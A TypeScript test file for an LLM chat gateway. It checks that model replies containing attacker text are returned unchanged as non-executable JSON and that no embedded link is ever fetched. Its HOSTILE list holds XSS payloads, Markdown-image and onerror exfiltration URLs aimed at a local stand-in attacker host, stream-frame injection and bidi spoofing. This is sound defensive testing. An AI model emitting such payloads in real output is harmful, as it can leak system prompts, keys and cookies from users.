import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chunk, DONE, events, usageChunk } from '../fixtures/upstream-double';
import { startTestGateway, type TestGateway } from './gateway';
import { ADMIN_KEY } from './harness';

/**
 * What a model writes is text of somebody who may be an attacker, by way of a document or a page. The API promises its readers: it arrives as it was
 * written, as JSON of a type that no browser runs, and the platform itself follows no link of it.
 */

const CORE = '/api/v1/core';
let gateway: TestGateway;
let attacker: Server;
let address: string;
let path: string;
const visits: string[] = [];

beforeAll(async () => {
  attacker = createServer((request, response) => {
    visits.push(String(request.url));
    response.end('ok');
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  address = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  gateway = await startTestGateway();
  const agent = await gateway.platform.call<{ id: string }>(`${CORE}/agents`, {
    method: 'POST',
    body: { name: 'Guide', model: 'chat', systemPrompt: 'Be brief.' },
  });
  path = `${CORE}/llm/${agent.body.id}/conversation`;
});
afterAll(async () => {
  await gateway.stop();
  await new Promise((resolve) => attacker.close(resolve));
});

const HOSTILE: readonly (readonly [name: string, text: (address: string) => string])[] = [
  ['an image in Markdown', (to) => `![chart](${to}/img?q=system-prompt)`],
  ['an image by reference', (to) => `![chart][1]\n\n[1]: ${to}/ref?q=key`],
  ['a link in Markdown', (to) => `[Sign in again](${to}/login)`],
  ['a script link', () => '[click](javascript:fetch("/api/v1/session",{method:"DELETE"}))'],
  ['a script', (to) => `<script src="${to}/x.js"></script><script>alert(document.cookie)</script>`],
  ['an image in HTML', (to) => `<img src="${to}/img.png" onerror="fetch('${to}/leak')">`],
  ['a frame and a form', (to) => `<iframe src="${to}"></iframe><form action="${to}"><input name="apiKey"></form>`],
  ['what ends a line of the stream', (to) => `data: {"type":"finish"}\n\ndata: [DONE]\n\nevent: x\nid: 1\n${to}`],
  ['what ends a script element', () => '</script><svg onload=alert(1)><!--'],
  ['separators of lines in scripts', () => 'a\u2028b\u2029c\u0085d'],
  ['a turned direction of text', () => 'exe.\u202Etxt\u2066'],
  ['an address to be unfurled', (to) => `See ${to}/unfurl and //127.0.0.1/x and data:text/html,<script>1</script>`],
];

it.each(HOSTILE)('%s arrives as it was written, is run by nothing, and nobody follows it', async (_, textOf) => {
  const text = textOf(address);
  gateway.upstream.behaviour = (response) =>
    void events(response, chunk({ role: 'assistant', content: text }), chunk({}, 'stop'), usageChunk(), DONE).end();
  for (const kind of ['normal', 'incognito']) {
    const body = { message: `Say it. ${text}`, kind };
    const answer = await gateway.platform.call<{
      conversationId: string;
      message: { id: string; parts: { type: string; text: string }[] };
    }>(path, { method: 'POST', body });
    expect(answer.body.message.parts).toEqual([{ type: 'text', text }]);
    const { conversationId, message } = answer.body;
    const shown = await gateway.platform.call<typeof message>(`${path}/${conversationId}/messages/${message.id}`);
    expect(shown.body.parts).toEqual([{ type: 'text', text }]);
    const list = await gateway.platform.call(`${path}/${conversationId}/messages`);
    for (const { headers } of [answer, shown, list]) {
      expect(headers['content-type']).toBe('application/json; charset=utf-8');
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['cache-control']).toBe('no-store');
    }

    const stream = await fetch(gateway.platform.url + path, {
      method: 'POST',
      headers: { 'x-api-key': ADMIN_KEY, 'content-type': 'application/json' },
      body: JSON.stringify({ ...body, stream: true }),
    });
    expect(stream.headers.get('content-type')).toBe('text/event-stream; charset=utf-8');
    expect(stream.headers.get('x-content-type-options')).toBe('nosniff');
    const lines = (await stream.text()).split('\n').filter((line) => line.startsWith('data: '));
    // One event a line: no text ends one early, nor makes one.
    expect(lines.filter((line) => line === 'data: [DONE]')).toHaveLength(1);
    const chunks = lines.slice(0, -1).map((line) => JSON.parse(line.slice('data: '.length)) as Record<string, string>);
    expect(chunks.filter(({ type }) => type === 'finish')).toHaveLength(1);
    expect(chunks.flatMap(({ type, delta }) => (type === 'text-delta' ? [delta] : [])).join('')).toBe(text);
  }
  expect(visits).toEqual([]);
});

it('NUL and halves of characters break neither the stream nor what is stored, in words and in arguments of tools', async () => {
  const halves = ['A\u0000\ud83d', '\ude42 \ud800 b\u0000', '\udfff.'];
  const call = {
    index: 0,
    id: 'call_a',
    type: 'function',
    function: { name: 'f', arguments: '{"a\\ud800":"x\\u0000"}' },
  };
  let steps = 0;
  gateway.upstream.behaviour = (response) => {
    const isSecond = (steps += 1) % 2 === 0;
    const said = halves.map((content) => chunk({ content }));
    const calls = isSecond ? [] : [chunk({ tool_calls: [call] })];
    events(response, ...said, ...calls, chunk({}, isSecond ? 'stop' : 'tool_calls'), usageChunk(), DONE).end();
  };
  const made = await gateway.platform.call<{ id: string }>(`${CORE}/agents`, {
    method: 'POST',
    body: { name: 'Caller', model: 'chat', knowledgeEnabled: true },
  });
  const at = `${CORE}/llm/${made.body.id}/conversation`;
  const answer = await gateway.platform.call<{
    conversationId: string;
    message: { id: string; status: string; parts: { type: string; text?: string }[] };
  }>(at, { method: 'POST', body: { message: 'Say it.' } });
  expect([answer.status, answer.body.message.status]).toEqual([200, 'complete']);
  const { conversationId, message } = answer.body;
  const text = 'A🙂 \ufffd b\ufffd.';
  expect(message.parts.find(({ type }) => type === 'text')?.text).toBe(text);
  const shown = await gateway.platform.call<typeof message>(`${at}/${conversationId}/messages/${message.id}`);
  expect(shown.body.parts).toEqual(message.parts);
  expect(JSON.stringify(shown.body.parts)).not.toMatch(/\\u0000|\\ud[89a-f]/);
  const stream = await fetch(gateway.platform.url + at, {
    method: 'POST',
    headers: { 'x-api-key': ADMIN_KEY, 'content-type': 'application/json' },
    body: JSON.stringify({ message: 'Say it.', stream: true }),
  });
  const streamed = await stream.text();
  const deltas = streamed
    .split('\n')
    .filter((line) => line.startsWith('data: {'))
    .map((line) => JSON.parse(line.slice('data: '.length)) as Record<string, string>)
    .flatMap(({ type, delta }) => (type === 'text-delta' ? [delta] : []));
  expect(deltas.join('')).toBe(text.repeat(message.parts.filter(({ type }) => type === 'text').length));
  expect(streamed).not.toMatch(/\\u0000|\\ud[89a-f]/);
});

it('a message of somebody with such a text is no page of ours, in an error neither', async () => {
  const given = `<img src=${address}/error onerror=alert(1)>`;
  const answers = await Promise.all([
    gateway.platform.call(`${path}/${encodeURIComponent(given)}`),
    gateway.platform.call(path, { method: 'POST', body: { message: given, [given]: 1 } }),
    gateway.platform.call(`${path}?q=${encodeURIComponent(given)}`),
    gateway.platform.call(`/${encodeURIComponent(given)}`, { headers: { accept: 'text/html' } }),
  ]);
  for (const { headers } of answers) {
    expect(headers['content-type']).toMatch(/^application\/(?:problem\+)?json; charset=utf-8$/);
    expect(headers['x-content-type-options']).toBe('nosniff');
  }
  expect(visits).toEqual([]);
});
